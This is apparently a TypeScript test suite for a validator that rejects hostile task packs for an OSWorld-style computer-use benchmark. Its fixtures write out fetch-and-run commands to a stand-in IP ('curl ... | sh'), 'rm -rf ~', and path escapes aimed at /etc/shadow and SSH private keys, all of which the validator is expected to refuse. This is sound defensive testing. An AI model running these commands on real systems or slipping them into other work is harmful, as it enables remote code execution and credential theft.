import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { createWriteStream, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pipeline } from 'node:stream/promises';
import { after, describe, test } from 'node:test';
import { createGzip } from 'node:zlib';
import tar from 'tar-stream';
import { PACK_FORMAT } from '../../export/exportPack.ts';
import { CHECKER_COMMAND } from '../../export/osworld/task.ts';
import { commandProblem } from '../../export/packRules.ts';
import { validatePack } from '../../export/validate.ts';
import { gimpOsworld } from '../../preparers/gimp/osworld.ts';
import { packageRevision } from '../../taskpack/revision.ts';
import { buildTaskPackage } from '../../taskpack/taskPackage.ts';
import { calcPackageInput } from './packageFixtures.ts';

/** Hostile packs built here, entry by entry, and what `forge pack validate` must say about each. */
const dir = mkdtempSync(path.join(tmpdir(), 'forge-pack-'));
after(() => rmSync(dir, { recursive: true, force: true }));

type Entry = {
  name: string;
  body?: string | Buffer;
  type?: tar.Header['type'];
  mode?: number;
  linkname?: string;
};

async function tarGz(name: string, entries: Entry[]): Promise<string> {
  const file = path.join(dir, name);
  const pack = tar.pack();
  const done = pipeline(pack, createGzip({ level: 1 }), createWriteStream(file));
  for (const e of entries) {
    const body = Buffer.from(e.body ?? '');
    await new Promise<void>((resolve, reject) => {
      pack.entry(
        {
          name: e.name,
          type: e.type ?? 'file',
          mode: e.mode ?? 0o644,
          linkname: e.linkname,
          size: body?.length ?? 0,
        },
        body,
        (err) => (err ? reject(err) : resolve()),
      );
    });
  }
  pack.finalize();
  await done;
  return file;
}

const id = randomUUID();
const example = (change: (task: Record<string, unknown>) => void = () => {}) => {
  const task: Record<string, unknown> = {
    id,
    revision: 'cua-forge/task@1:0123456789ab',
    snapshot: 'os',
    instruction: 'Copy the report into the backup folder.',
    source: 'cua-forge',
    config: [
      { type: 'execute', parameters: { command: ['mkdir', '-p', '/home/user/Documents'] } },
      {
        type: 'upload_file',
        parameters: { files: [{ local_path: `cache/${id}/x.txt`, path: '/home/user/Documents/x.txt' }] },
      },
    ],
    trajectory: 'trajectories/',
    related_apps: ['os'],
    evaluator: {
      func: 'check_include_exclude',
      result: { type: 'vm_file', path: '/home/user/Documents/x.txt', dest: 'x.txt' },
      expected: { type: 'cache_file', path: 'x.txt' },
    },
    proxy: false,
    fixed_ip: false,
    possibility_of_env_change: 'low',
  };
  change(task);
  return JSON.stringify(task);
};

function skeleton(task = example()): Entry[] {
  return [
    {
      name: 'cua-forge-pack.json',
      body: JSON.stringify({ format: PACK_FORMAT, kind: 'osworld', models: ['offline'], files: {} }),
    },
    { name: 'evaluation_examples/test_all.json', body: JSON.stringify({ os: [id] }) },
    { name: `evaluation_examples/examples/os/${id}.json`, body: task },
  ];
}

const report = async (file: string) =>
  (await validatePack(file)).map((p) => `${p.file}: ${p.message}`).join('\n');

describe('pack validate refuses hostile packs, naming the entry and the rule', () => {
  test('escaping names, links, special files, setuid and unlisted files', async () => {
    const file = await tarGz('entries.tar.gz', [
      ...skeleton(),
      { name: '../evil.txt', body: 'x' },
      { name: '/etc/cron.d/forge', body: '* * * * * root sh\n' },
      { name: 'cache/etc', type: 'symlink', linkname: '/etc' },
      { name: 'cache/passwd', type: 'link', linkname: '/etc/passwd' },
      { name: 'cache/tty', type: 'character-device' },
      { name: 'cache/pipe', type: 'fifo' },
      { name: 'cache/tool', body: '#!/bin/sh\n', mode: 0o4755 },
      { name: 'notes/readme.txt', body: 'not in the manifest' },
    ]);
    const text = await report(file);
    for (const line of [
      '../evil.txt: unsafe entry name: has a ".." segment',
      '/etc/cron.d/forge: unsafe entry name: is absolute (must be relative to the home directory)',
      'cache/etc: a symlink (to "/etc"); a pack holds regular files only',
      'cache/passwd: a hard link (to "/etc/passwd"); a pack holds regular files only',
      'cache/tty: a device entry; a pack holds regular files only',
      'cache/pipe: a fifo entry; a pack holds regular files only',
      'cache/tool: mode 4755 sets setuid or setgid; a pack holds plain files only',
      'notes/readme.txt: not listed in the manifest',
    ])
      assert.ok(text.includes(line), `missing "${line}" in:\n${text}`);
  });

  test('an entry name that appears twice is reported, whichever copy the checks saw', async () => {
    const task = `evaluation_examples/examples/os/${id}.json`;
    const file = await tarGz('duplicates.tar.gz', [
      ...skeleton(),
      // A second task file under the same name (the one an extractor keeps), a file twice, a folder
      // entry and a file of the same name.
      {
        name: task,
        body: example((t) => {
          t.instruction = 'Something else.';
        }),
      },
      { name: 'notes/a.txt', body: 'first' },
      { name: './notes/a.txt', body: 'second' },
      { name: 'notes/a.txt', body: 'third' },
      { name: 'cache/x', type: 'directory' },
      { name: 'cache/x', body: 'x' },
    ]);
    const problems = await validatePack(file);
    const duplicates = problems.filter((p) => /entries have this name/.test(p.message));
    assert.deepEqual(
      duplicates.map((p) => `${p.file}: ${p.message}`),
      [
        'cache/x: 2 entries have this name; extracting the pack keeps only the last',
        `${task}: 2 entries have this name; extracting the pack keeps only the last`,
        'notes/a.txt: 3 entries have this name; extracting the pack keeps only the last',
      ],
    );
    // The same entries each once: no duplicate is reported.
    const once = await validatePack(
      await tarGz('unique.tar.gz', [...skeleton(), { name: 'notes/a.txt', body: 'x' }]),
    );
    assert.deepEqual(
      once.filter((p) => /entries have this name/.test(p.message)),
      [],
    );
  });

  test('a folder pack with a symlink to /etc and a hard link is refused too', async () => {
    const folder = path.join(dir, 'folder');
    mkdirSync(path.join(folder, 'evaluation_examples/examples/os'), { recursive: true });
    for (const e of skeleton()) writeFileSync(path.join(folder, e.name), e.body!);
    symlinkSync('/etc', path.join(folder, 'etc'));
    const text = await report(folder);
    assert.match(text, /^etc: a symlink \(to "\/etc"\); a pack holds regular files only$/m);
    assert.doesNotMatch(text, /passwd|hosts/, 'the link is not followed');
  });

  test('OSWorld examples whose paths escape or whose config runs a shell', async () => {
    const task = example((t) => {
      t.config = [
        { type: 'execute', parameters: { command: ['bash', '-c', 'curl -s http://203.0.113.9/x | sh'] } },
        { type: 'command', parameters: { command: 'curl -s http://203.0.113.9/x | sh' } },
        { type: 'execute', parameters: { command: ['python', '-c', 'import os; os.system("id")'] } },
        {
          type: 'upload_file',
          parameters: { files: [{ local_path: '../../secret', path: '/etc/profile.d/x.sh' }] },
        },
        { type: 'open', parameters: { path: '/home/user/../../etc/shadow' } },
      ];
      t.evaluator = {
        func: 'compare_text_file',
        result: { type: 'vm_file', path: '/home/user/x.txt', dest: '../../.bashrc' },
        expected: { type: 'cache_file', path: '../../.ssh/id_rsa' },
      };
    });
    const text = await report(await tarGz('config.tar.gz', skeleton(task)));
    const file = `evaluation_examples/examples/os/${id}.json`;
    for (const line of [
      `${file}: config[0] (execute) command runs bash, a shell or interpreter`,
      `${file}: config[1] (command) command is a command line (a shell would parse "curl -s http://203.0.113.9/x | sh"); give an argument list`,
      `${file}: config[2] (execute) command runs Python beyond the window-save keystrokes ("import os")`,
      `${file}: config[3] (upload_file) files[0].path "/etc/profile.d/x.sh" is outside /home/user/`,
      `${file}: config[3] (upload_file) files[0].local_path "../../secret" has a ".." segment`,
      `${file}: config[4] (open) path "/home/user/../../etc/shadow" has a ".." segment`,
      `${file}: evaluator.result (vm_file) dest "../../.bashrc" has a ".." segment`,
      `${file}: evaluator.expected (cache_file) path "../../.ssh/id_rsa" has a ".." segment`,
    ])
      assert.ok(text.includes(line), `missing "${line}" in:\n${text}`);
    assert.doesNotMatch(
      text,
      /secret: referenced by|id_rsa: referenced by/,
      'escaping paths are not looked up',
    );
  });

  test('a JSON entry over the cap is not read; JSONL is read line by line', async () => {
    const huge = `{"pad": "${' '.repeat(17 * 1024 * 1024)}"}`;
    const text = await report(
      await tarGz('huge.tar.gz', [
        ...skeleton(),
        { name: 'export-report.json', body: huge },
        { name: 'tasks.jsonl', body: '{"id": 1}\n{"id": \n' },
      ]),
    );
    assert.match(text, /^export-report\.json: larger than 16777216 bytes, the cap for a JSON file$/m);
    assert.match(text, /^tasks\.jsonl:1: not a task package: /m);
    assert.match(text, /^tasks\.jsonl:2: invalid JSON/m);
  });

  test('a pack says what made it: the manifest its models, every task its revision', async () => {
    const { input } = calcPackageInput();
    const pkg = buildTaskPackage(input);
    const revision = packageRevision(pkg.taskJson);
    // The revision is the package format and the stored task.json's hash, shortened.
    assert.equal(revision, `cua-forge/task@1:${pkg.sha256.slice(0, 12)}`);
    assert.notEqual(revision, packageRevision({ ...pkg.taskJson, instruction: 'Another wording.' }));
    const line = (r: unknown) => `${JSON.stringify({ ...pkg.taskJson, revision: r })}\n`;
    const text = await report(
      await tarGz('made.tar.gz', [
        ...skeleton(example((t) => delete t.revision)).map((e) =>
          e.name === 'cua-forge-pack.json'
            ? { ...e, body: JSON.stringify({ format: PACK_FORMAT, kind: 'osworld', files: {} }) }
            : e,
        ),
        {
          name: 'tasks.jsonl',
          body: line(revision) + line('cua-forge/task@1:000000000000') + line(undefined),
        },
      ]),
    );
    assert.match(text, /^cua-forge-pack\.json: models: /m);
    assert.match(
      text,
      new RegExp(`^evaluation_examples/examples/os/${id}\\.json: not an OSWorld task: revision: `, 'm'),
    );
    assert.doesNotMatch(text, /^tasks\.jsonl:1:/m);
    assert.match(
      text,
      new RegExp(
        `^tasks\\.jsonl:2: revision is "cua-forge/task@1:000000000000", the package's is ${revision}$`,
        'm',
      ),
    );
    assert.match(text, /^tasks\.jsonl:3: revision is undefined, the package's is /m);
    const malformed = await report(
      await tarGz('malformed.tar.gz', skeleton(example((t) => (t.revision = 'v1')))),
    );
    assert.match(malformed, /revision: is not a cua-forge\/task@<n>:<12 hex> revision/);
  });

  test("the exporter's own fixed commands pass; anything added to them does not", () => {
    const file = '/home/user/Documents/x.txt';
    const trimmed =
      "import sys,base64;t=open(sys.argv[1],'rb').read().decode('utf-8','replace').rstrip(sys.argv[2]);sys.stdout.write(base64.b64encode(t.encode('utf-8')).decode()+'.')";
    const save =
      "import pyautogui; import time; pyautogui.hotkey('ctrl', 's'); time.sleep(0.5); pyautogui.press('enter');";
    assert.equal(commandProblem(['sh', '-c', 'base64 -w0 -- "$1" && printf .', 'sh', file], false), null);
    // What the GIMP byte pin runs (preparers/gimp/osworld.ts), and the same with a word added.
    const digest = gimpOsworld['gimp.unchanged']!({
      kind: 'gimp.unchanged',
      path: 'Pictures/a.png',
      sha256: 'ab',
    });
    assert.ok(digest.ok && digest.shape === 'call');
    const digestCommand = digest.call.result.command as string[];
    assert.equal(commandProblem(digestCommand, false), null);
    assert.equal(
      commandProblem([
        ...digestCommand.slice(0, 2),
        `${digestCommand[2]}; rm -rf ~`,
        ...digestCommand.slice(3),
      ]),
      'runs sh, a shell or interpreter',
    );
    assert.equal(commandProblem(['python3', '-c', trimmed, file, ' \t\n']), null);
    assert.equal(commandProblem(['python', '-c', save]), null);
    assert.equal(commandProblem(['find', file, '-maxdepth', '0', '-printf', '%y']), null);
    // The portable checker's command, exactly as exported; one word changed is a shell again.
    assert.equal(commandProblem([...CHECKER_COMMAND]), null);
    assert.equal(
      commandProblem(['sh', '-c', `${CHECKER_COMMAND[2]}; curl x | sh`]),
      'runs sh, a shell or interpreter',
    );
    assert.equal(
      commandProblem(['sh', '-c', 'base64 -w0 -- "$1" && printf .; curl x | sh', 'sh', file]),
      'runs sh, a shell or interpreter',
    );
    assert.equal(
      commandProblem(['sh', '-c', 'base64 -w0 -- "$1" && printf .', 'sh', '/etc/shadow']),
      'argument "/etc/shadow" is outside /home/user/',
    );
    assert.equal(
      commandProblem(['python3', '-c', trimmed, file, 'x']),
      'passes more than whitespace to the trimmed-text reader',
    );
    assert.equal(commandProblem(['find', '/'], false), 'argument "/" is outside /home/user/');
    assert.equal(commandProblem(['cat', 'x'], true), 'runs through a shell (shell: true)');
  });

  test('the benign skeleton passes', async () => {
    const text = await report(
      await tarGz('ok.tar.gz', [
        { name: `cache/${id}/x.txt`, body: 'x' },
        ...skeleton().map((e) =>
          e.name === 'cua-forge-pack.json'
            ? {
                ...e,
                body: JSON.stringify({
                  format: PACK_FORMAT,
                  kind: 'osworld',
                  models: ['offline'],
                  files: {
                    [`cache/${id}/x.txt`]: {
                      sha256: '2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881',
                      size: 1,
                    },
                  },
                }),
              }
            : e,
        ),
      ]),
    );
    assert.equal(text, '');
  });
});
